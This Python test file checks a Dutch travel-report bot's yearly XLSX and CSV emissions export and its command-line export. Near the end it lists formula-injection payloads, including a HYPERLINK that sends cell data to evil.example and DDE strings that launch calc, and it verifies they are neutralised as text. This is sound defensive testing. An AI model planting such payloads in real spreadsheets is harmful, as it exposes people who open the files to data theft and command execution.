"""The yearly overview: XLSX checked cell by cell, CSV, and the command line."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.__main__ import main
from bot.export import (
    EXCEPTIONS_SHEET,
    TOTALS_SHEET,
    TRIPS_SHEET,
    export_csv,
    export_xlsx,
    trip_header,
)
from bot.report import (
    DayPart,
    EmissionLine,
    Place,
    RailCheck,
    Report,
    TransportMode,
    Traveller,
    TripPeriod,
)
from bot.store import Store
from testkit.example_report import example_report

PARIJS = Place(
    name="Parijs", country="Frankrijk", country_code="FR", latitude=48.85, longitude=2.35
)
BERLIJN = Place(
    name="Berlijn", country="Duitsland", country_code="DE", latitude=52.5, longitude=13.4
)


def line(mode: TransportMode, km: float, kg: float) -> EmissionLine:
    """An emission line with a made-up but consistent factor."""
    return EmissionLine(
        mode=mode,
        km=km,
        kg_co2e=kg,
        factor_kg_per_unit=kg / km if km else 0,
        unit="pkm",
        units=km,
        factor_class="test",
        factor_source="test",
        factor_verified=False,
        list_version="co2emissiefactoren-2025",
    )


def paris_flight() -> Report:
    """Flown to Paris (train 3,5 h): the rule fires, the justification only names time."""
    return example_report(
        report_id="parijs",
        traveller=Traveller(name="A. Bakker", department="Economie"),
        persons=2,
        period=TripPeriod(departure=date(2025, 6, 10), return_date=date(2025, 6, 10)),
        destinations=[PARIJS],
        modes=[TransportMode.VLIEGTUIG],
        emissions=[line(TransportMode.VLIEGTUIG, 800.0, 187.2)],
        rail_check=RailCheck(
            destination="Parijs",
            hours=3.5,
            estimated=False,
            source="tabel",
            threshold_hours=8,
            flown=True,
        ),
        justification="Het scheelt reistijd.",
        justification_flagged=True,
    )


def berlin_train_and_bus() -> Report:
    """Train to Berlin, bus back, three persons, leaving in the afternoon."""
    return example_report(
        report_id="berlijn",
        traveller=Traveller(name="C. Jansen", department="Stedelijke Ontwikkeling"),
        persons=3,
        period=TripPeriod(
            departure=date(2025, 6, 2),
            departure_part=DayPart.MIDDAG,
            return_date=date(2025, 6, 4),
            return_part=DayPart.OCHTEND,
        ),
        destinations=[BERLIJN],
        modes=[TransportMode.TREIN, TransportMode.BUS],
        emissions=[line(TransportMode.TREIN, 1950.0, 0.0), line(TransportMode.BUS, 1950.0, 202.8)],
        rail_check=None,
        justification=None,
    )


REPORTS = [paris_flight(), example_report(), berlin_train_and_bus()]


def workbook(reports: list[Report]):  # type: ignore[no-untyped-def]
    """The exported workbook, opened again."""
    return load_workbook(io.BytesIO(export_xlsx(reports, 2025)))


def rows(sheet) -> list[list[object]]:  # type: ignore[no-untyped-def]
    """Every row of a sheet as values."""
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_trips_sheet_has_one_row_per_trip_cell_by_cell() -> None:
    book = workbook(REPORTS)
    assert book.sheetnames == [TRIPS_SHEET, TOTALS_SHEET, EXCEPTIONS_SHEET]
    sheet = book[TRIPS_SHEET]
    header, *data = rows(sheet)
    assert header == [
        "Reiziger", "Afdeling", "Vertrek", "Terugkomst", "Dagen", "Bestemmingen", "Landen",
        "Personen", "Vervoer",
        "Vliegtuig km", "Vliegtuig kg CO2e", "Trein km", "Trein kg CO2e", "Bus km",
        "Bus kg CO2e", "Auto km", "Auto kg CO2e", "Veerboot km", "Veerboot kg CO2e",
        "Totaal km", "Totaal kg CO2e", "Emissielijst", "8-uursregel van toepassing",
        "Toelichting", "Gemarkeerd", "Treinreis (bot en reiziger)", "Verslag-id",
        "Factoren geverifieerd",
    ]  # fmt: skip
    assert len(data) == 3
    vienna, berlin, paris = data  # by departure: April, 2 June, 10 June
    assert vienna[:9] == [
        "J. de Vries", "Digitale Stad", datetime(2025, 4, 27), datetime(2025, 4, 29), 2.5,
        "Wenen, Bratislava", "Oostenrijk, Slowakije", 1, "vliegtuig",
    ]  # fmt: skip
    assert vienna[9] == 1919 and vienna[10] == pytest.approx(1919 * 0.172)
    assert vienna[11:19] == [0, 0, 0, 0, 0, 0, 0, 0]
    assert vienna[19] == 1919 and vienna[20] == pytest.approx(330.068)
    assert vienna[21:] == [
        "co2emissiefactoren-2025", "nee", None, "nee", "Wenen: ca. 12 u 30 volgens de bot",
        "voorbeeld-wenen-2025", "nee: vliegtuig",
    ]  # fmt: skip
    assert berlin[4] == 2.0  # afternoon out, morning back: 3 - 0,5 - 0,5
    assert berlin[7:9] == [3, "trein, bus"]
    assert berlin[11:15] == [1950, 0, 1950, pytest.approx(202.8)]
    assert berlin[19:21] == [3900, pytest.approx(202.8)]
    assert paris[4] == 1.0
    assert paris[22:25] == ["ja", "Het scheelt reistijd.", "ja"]
    assert paris[25] == "Parijs: ca. 3 u 30 volgens de bot"
    assert berlin[25] is None  # nobody flew


def test_trips_sheet_styling_formats_and_frozen_header() -> None:
    sheet = workbook(REPORTS)[TRIPS_SHEET]
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold and sheet["A1"].fill.fgColor.rgb.endswith("1F4E78")
    assert sheet["C2"].number_format == "dd-mm-yyyy"
    assert sheet["E2"].number_format == "0.0"
    assert sheet["J2"].number_format == "#,##0"
    assert sheet["K2"].number_format == "#,##0.0"
    assert sheet.column_dimensions["A"].width == 22


def test_totals_per_mode_and_per_month() -> None:
    sheet = workbook(REPORTS)[TOTALS_SHEET]
    data = rows(sheet)
    assert data[0] == ["Vervoer", "Reizen", "km", "kg CO2e", None]
    by_mode = {row[0]: row[1:4] for row in data[1:7]}
    assert by_mode["Vliegtuig"] == [2, 2719, pytest.approx(1919 * 0.172 + 187.2)]
    assert by_mode["Trein"] == [1, 1950, 0]
    assert by_mode["Bus"] == [1, 1950, pytest.approx(202.8)]
    assert by_mode["Auto"] == [0, 0, 0]
    assert by_mode["Totaal"] == [3, 6619, pytest.approx(1919 * 0.172 + 187.2 + 202.8)]
    assert sheet["A7"].font.bold
    month_header = data[8]
    assert month_header == ["Maand (vertrek)", "Reizen", "Dagen", "km", "kg CO2e"]
    months = {row[0]: row[1:5] for row in data[9:22]}
    assert months["april"] == [1, 2.5, 1919, pytest.approx(330.068)]
    assert months["juni"] == [2, 3.0, 800 + 3900, pytest.approx(187.2 + 202.8)]
    assert months["januari"] == [0, 0, 0, 0]
    assert months["Totaal"][:3] == [3, 5.5, 6619]


def test_exceptions_sheet_lists_only_trips_where_the_rule_fired() -> None:
    sheet = workbook(REPORTS)[EXCEPTIONS_SHEET]
    header, *data = rows(sheet)
    assert header == [
        "Reiziger", "Afdeling", "Vertrek", "Bestemming", "Treinreis (uur)", "Geschat",
        "Toelichting", "Gemarkeerd",
    ]  # fmt: skip
    assert data == [
        [
            "A. Bakker", "Economie", datetime(2025, 6, 10), "Parijs", 3.5, "nee",
            "Het scheelt reistijd.", "ja",
        ]
    ]  # fmt: skip


def test_empty_year_gives_headers_and_zero_totals() -> None:
    book = workbook([])
    assert len(rows(book[TRIPS_SHEET])) == 1
    assert rows(book[TOTALS_SHEET])[6][:2] == ["Totaal", 0]


def test_csv_is_semicolon_separated_utf8_with_bom_and_decimal_commas() -> None:
    content = export_csv(REPORTS)
    assert content.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert table[0][0] == "Reiziger" and len(table[0]) == 28
    vienna = table[1]
    assert vienna[:9] == [
        "J. de Vries", "Digitale Stad", "27-04-2025", "29-04-2025", "2,5",
        "Wenen, Bratislava", "Oostenrijk, Slowakije", "1", "vliegtuig",
    ]  # fmt: skip
    assert vienna[9:11] == ["1919", "330,07"]
    assert table[3][23] == "Het scheelt reistijd."


def test_cli_export_reads_the_store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    database = tmp_path / "reisverslag.sqlite3"
    with Store.open(f"sqlite:///{database}") as store:
        for report in REPORTS:
            store.reports.add("telegram:1", report, datetime(2025, 7, 1, tzinfo=UTC))
        store.reports.add(
            "console:jan",
            example_report(
                report_id="vorig-jaar",
                period=TripPeriod(departure=date(2024, 5, 1), return_date=date(2024, 5, 2)),
            ),
            datetime(2025, 7, 1, tzinfo=UTC),
        )
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{database}")
    assert main(["export", "--year", "2025", "--out", str(tmp_path / "overzicht-2025.xlsx")]) == 0
    book = load_workbook(tmp_path / "overzicht-2025.xlsx")
    ids = [row[trip_header().index("Verslag-id")] for row in rows(book[TRIPS_SHEET])[1:]]
    assert ids == ["voorbeeld-wenen-2025", "berlijn", "parijs"]
    out = tmp_path / "overzicht.txt"
    assert main(["export", "--year", "2025", "--out", str(out), "--format", "csv"]) == 0
    assert out.read_bytes() == export_csv(REPORTS)


HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Jan")',
    "+31 70 353 3000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def hostile_report(text: str, index: int) -> Report:
    """The Paris flight with `text` typed as name, department, place and justification."""
    place = Place(name=text, country="Frankrijk", country_code="FR", latitude=48.85, longitude=2.35)
    return paris_flight().model_copy(
        update={
            "report_id": f"hostile-{index}",
            "traveller": Traveller(name=text, department=text),
            "destinations": [place],
            "justification": text,
        }
    )


def test_xlsx_keeps_formula_like_text_as_text_in_every_sheet() -> None:
    raw = export_xlsx([hostile_report(text, i) for i, text in enumerate(HOSTILE)], 2025)
    book = load_workbook(io.BytesIO(raw))
    seen: list[object] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if cell.value in HOSTILE:
                    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
                    seen.append(cell.value)
    assert set(seen) == set(HOSTILE)  # shown exactly as typed, not altered
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in xml or b"<f " in xml for xml in sheets)


def test_csv_prefixes_formula_like_text_with_a_quote_the_owasp_rule() -> None:
    content = export_csv([hostile_report(text, i) for i, text in enumerate(HOSTILE)])
    table = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    for row in table[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    names = sorted(row[0] for row in table[1:])
    assert names == sorted(f"'{text}" for text in HOSTILE)
    assert table[1][9:11] != [] and not table[1][10].startswith("'")  # numbers stay numbers
